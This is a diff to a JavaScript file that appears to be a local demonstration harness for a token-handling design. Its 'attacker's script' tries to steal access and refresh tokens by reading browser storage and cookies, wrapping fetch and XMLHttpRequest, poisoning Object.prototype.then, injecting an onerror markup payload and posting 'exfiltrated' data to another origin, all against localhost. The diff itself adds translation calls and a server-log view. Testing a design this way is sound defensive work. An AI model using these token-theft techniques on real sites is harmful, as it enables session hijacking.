@@ -1,4 +1,5 @@
 // The attacker's script. Each attack is real and returns what it got. Nothing leaves this machine.
+const { gettext, interpolate } = window;
 const TOKEN = /eyJ[\w-]+\.[\w-]+\.[\w-]+|\b\w+_[\w-]{100,}/g; // access tokens, refresh tokens
 const pause = (ms) => new Promise((done) => setTimeout(done, ms));
 const tokens = (text) => String(text).match(TOKEN) ?? [];
@@ -12,10 +13,10 @@ const secondsOf = (token) => {
 const outcome = (found, nothing) => {
   const all = [...new Set(found)];
   const lasting = all.filter((token) => !token.startsWith("eyJ"));
-  if (lasting.length) return { kind: "lasting", got: "A refresh token", worth: "weeks", tokens: all };
+  if (lasting.length) return { kind: "lasting", got: gettext("A refresh token"), worth: gettext("weeks"), tokens: all };
   if (!all.length) return { kind: "nothing", got: nothing, worth: "–", tokens: [] };
-  const worth = `${Math.max(...all.map(secondsOf))} s at most, then nothing`;
-  return { kind: "minutes", got: "An access token", worth, tokens: all };
+  const worth = interpolate(gettext("%s s at most, then nothing"), [Math.max(...all.map(secondsOf))]);
+  return { kind: "minutes", got: gettext("An access token"), worth, tokens: all };
 };
 
 const press = async () => {
@@ -31,12 +32,12 @@ async function storage() {
     const cache = await caches.open(key);
     for (const request of await cache.keys()) found.push(...tokens(await (await cache.match(request)).text()));
   }
-  return outcome(found, "No token in any storage");
+  return outcome(found, gettext("No token in any storage"));
 }
 
 async function cookies() {
   const seen = [document.cookie, JSON.stringify((await window.cookieStore?.getAll()) ?? [])].join(" ");
-  return outcome(tokens(seen), seen.includes("__Host-") ? "The cookie's name" : "The cookie is not there for scripts");
+  return outcome(tokens(seen), seen.includes("__Host-") ? gettext("The cookie's name") : gettext("The cookie is not there for scripts"));
 }
 
 /** Search every object that can be reached from the window in four steps. */
@@ -56,7 +57,7 @@ async function reach() {
     }
   };
   walk(window, 4);
-  return outcome(found, `Nothing in ${seen.size} objects`);
+  return outcome(found, interpolate(gettext("Nothing in %s objects"), [seen.size]));
 }
 
 /** Wrap everything a token might pass through, make the page renew and call, and unwrap again. */
@@ -132,7 +133,7 @@ async function hooks() {
   }
   for (const value of kept) inspect(value, 1);
   for (const body of await Promise.allSettled(reading)) found.push(...tokens(body.value));
-  return outcome(found, `${hooked} hooks; none saw the token`);
+  return outcome(found, interpolate(gettext("%s hooks; none saw the token"), [hooked]));
 }
 
 /** The browser reads `then` of every value that a promise is fulfilled with, also of the answer to a refresh. */
@@ -151,7 +152,7 @@ async function poison() {
   } finally {
     delete Object.prototype.then;
   }
-  return outcome(tokens((await Promise.all(reading)).join(" ")), "The getter was not called");
+  return outcome(tokens((await Promise.all(reading)).join(" ")), gettext("The getter was not called"));
 }
 
 async function channel() {
@@ -165,7 +166,7 @@ async function channel() {
   });
   await press();
   for (const listener of listeners) listener.close();
-  return outcome(found, "No message");
+  return outcome(found, gettext("No message"));
 }
 
 async function refresh() {
@@ -176,7 +177,7 @@ async function refresh() {
     body: JSON.stringify({ retry_key: "0".repeat(32) }),
   });
   const text = await answer.text();
-  return outcome(tokens(text), `Refused: ${answer.status}`);
+  return outcome(tokens(text), interpolate(gettext("Refused: %s"), [answer.status]));
 }
 
 /** A page on another site, in a frame: it posts forms and fetches to the server with the cookies that the browser attaches. */
@@ -184,7 +185,7 @@ async function elsewhere() {
   const frame = document.createElement("iframe");
   frame.className = "away";
   frame.title = "the attacker's page";
-  frame.src = location.href.replace("127.0.0.1", "localhost").replace(/\/[^/]*$/, "/elsewhere/");
+  frame.src = location.href.replace("localhost", "127.0.0.1").replace(/\/[^/]*$/, "/elsewhere/");
   const told = new Promise((done) => {
     const hear = (event) => {
       if (event.source !== frame.contentWindow) return;
@@ -197,18 +198,18 @@ async function elsewhere() {
   document.body.append(frame);
   const { tries, seen } = await told;
   frame.remove();
-  return outcome(tokens(seen), tries.length ? `${tries.length} requests, not one answer it could read` : String(seen));
+  return outcome(tokens(seen), tries.length ? interpolate(gettext("%s requests, not one answer it could read"), [tries.length]) : String(seen));
 }
 
 async function markup() {
   const blocked = [];
   const note = (event) => blocked.push(event.effectiveDirective);
   document.addEventListener("securitypolicyviolation", note);
-  let got = "Script by markup ran";
+  let got = gettext("Script by markup ran");
   try {
     document.createElement("div").innerHTML = '<img src="data:," onerror="window.ran = true">';
   } catch {
-    got = "Trusted Types refused the markup";
+    got = gettext("Trusted Types refused the markup");
   }
   const inline = document.createElement("script");
   try {
@@ -220,59 +221,83 @@ async function markup() {
   await pause(50);
   inline.remove();
   document.removeEventListener("securitypolicyviolation", note);
-  if (!window.ran && blocked.length) got = `The policy refused it (${[...new Set(blocked)].join(", ")})`;
+  if (!window.ran && blocked.length) got = interpolate(gettext("The policy refused it (%s)"), [[...new Set(blocked)].join(", ")]);
   return { kind: window.ran ? "lasting" : "nothing", got, worth: "–", tokens: [] };
 }
 
 async function send() {
-  const away = `${location.origin.replace("127.0.0.1", "localhost")}/elsewhere/`;
+  const away = `${location.origin.replace("localhost", "127.0.0.1")}/elsewhere/`;
   try {
     await fetch(away, { mode: "no-cors", method: "POST", body: "exfiltrated" });
-    return { kind: "minutes", got: "The request went out", worth: "–", tokens: [] };
+    return { kind: "minutes", got: gettext("The request went out"), worth: "–", tokens: [] };
   } catch {
-    return { kind: "nothing", got: "No request went out; only leading the page away would", worth: "–", tokens: [] };
+    return { kind: "nothing", got: gettext("No request went out; only leading the page away would"), worth: "–", tokens: [] };
   }
 }
 
 const ATTACKS = [
-  [storage, "Read every storage", "local, session, databases, caches"],
-  [cookies, "Read the cookies", "document.cookie, cookieStore"],
-  [reach, "Search the window", "every object in reach"],
-  [hooks, "Wrap what tokens pass through", "fetch, XMLHttpRequest, Headers, Request, Response, JSON"],
-  [poison, "Poison every object", "a getter named then on Object.prototype"],
-  [channel, "Listen to the tabs", "the client's BroadcastChannel"],
-  [refresh, "Call refresh itself", "as the client does, with the cookie"],
-  [elsewhere, "Call from another site", "forms, frames, fetches, images"],
-  [markup, "Inject markup", "an event handler, an inline script"],
-  [send, "Exfiltrate", "a request to another origin"],
+  [storage, gettext("Read every storage"), gettext("local, session, databases, caches")],
+  [cookies, gettext("Read the cookies"), gettext("document.cookie, cookieStore")],
+  [reach, gettext("Search the window"), gettext("every object in reach")],
+  [hooks, gettext("Wrap what tokens pass through"), gettext("fetch, XMLHttpRequest, Headers, Request, Response, JSON")],
+  [poison, gettext("Poison every object"), gettext("a getter named then on Object.prototype")],
+  [channel, gettext("Listen to the tabs"), gettext("the client's BroadcastChannel")],
+  [refresh, gettext("Call refresh itself"), gettext("as the client does, with the cookie")],
+  [elsewhere, gettext("Call from another site"), gettext("forms, frames, fetches, images")],
+  [markup, gettext("Inject markup"), gettext("an event handler, an inline script")],
+  [send, gettext("Exfiltrate"), gettext("a request to another origin")],
 ];
 
-/** Run all attacks and fill in the table. Returns what each one got. */
-export async function runAttacks(table, verdict) {
-  table.replaceChildren();
+/** What the server saw since request `number`: each request, and the failed check where it was refused. */
+async function seenAfter(number) {
+  const answer = await fetch(`/seen/?after=${number}`);
+  return answer.ok ? (await answer.json()).seen : [];
+}
+
+const part = (name, text, props = {}) => Object.assign(document.createElement(name), { textContent: text }, props);
+
+/** One card: the attack, what it got, what that is good for, what the server saw. */
+function card([, title, how], result, seen) {
+  const item = part("li", "", { className: "card" });
+  const list = document.createElement("dl");
+  const row = (name, ...content) => {
+    const value = document.createElement("dd");
+    value.append(...content);
+    list.append(part("dt", name), value);
+  };
+  row(gettext("What it got"), part("span", result.got, { className: result.kind }));
+  row(gettext("Good for"), result.worth);
+  const lines = seen.slice(0, 12).map(({ method, path, status, check }) => part("li", `${method} ${path} → ${status}${check ? `: ${check}` : ""}`));
+  const said = part("ul", "", { className: "seen" });
+  said.append(...lines);
+  row(gettext("What the server saw"), lines.length ? said : gettext("Nothing: no request reached it."));
+  item.append(part("h3", title), part("p", how, { className: "hint" }), list);
+  return item;
+}
+
+/** Run all attacks and fill in the cards. Returns what each one got. */
+export async function runAttacks(cards, verdict) {
+  cards.replaceChildren();
   const results = [];
-  for (const [attack, title, how] of ATTACKS) {
+  let last = (await seenAfter(0)).at(-1)?.number ?? 0;
+  for (const attack of ATTACKS) {
+    const [run, title] = attack;
     verdict.textContent = `${title}…`;
     let result;
     try {
-      result = await attack();
+      result = await run();
     } catch (error) {
-      result = { kind: "nothing", got: `It failed: ${error.message}`, worth: "–", tokens: [] };
+      result = { kind: "nothing", got: interpolate(gettext("It failed: %s"), [error.message]), worth: "–", tokens: [] };
     }
-    results.push({ name: attack.name, ...result });
-    const row = table.insertRow();
-    const head = document.createElement("th");
-    head.scope = "row";
-    head.append(title, Object.assign(document.createElement("small"), { textContent: how }));
-    row.append(head);
-    const got = row.insertCell();
-    got.append(Object.assign(document.createElement("span"), { className: result.kind, textContent: result.got }));
-    row.insertCell().textContent = result.worth;
+    results.push({ name: run.name, ...result });
+    const seen = await seenAfter(last);
+    last = seen.at(-1)?.number ?? last;
+    cards.append(card(attack, result, seen));
   }
   const lasting = results.filter((result) => result.kind === "lasting").length;
   verdict.textContent = lasting
-    ? `${lasting} attacks got something that lasts.`
-    : `${results.length} attacks. Nothing they got outlives the access token’s minutes.`;
+    ? interpolate(gettext("%s attacks got something that lasts."), [lasting])
+    : interpolate(gettext("%s attacks. Nothing they got outlives the access token’s minutes."), [results.length]);
   verdict.className = lasting ? "lasting" : "nothing";
   return results;
 }
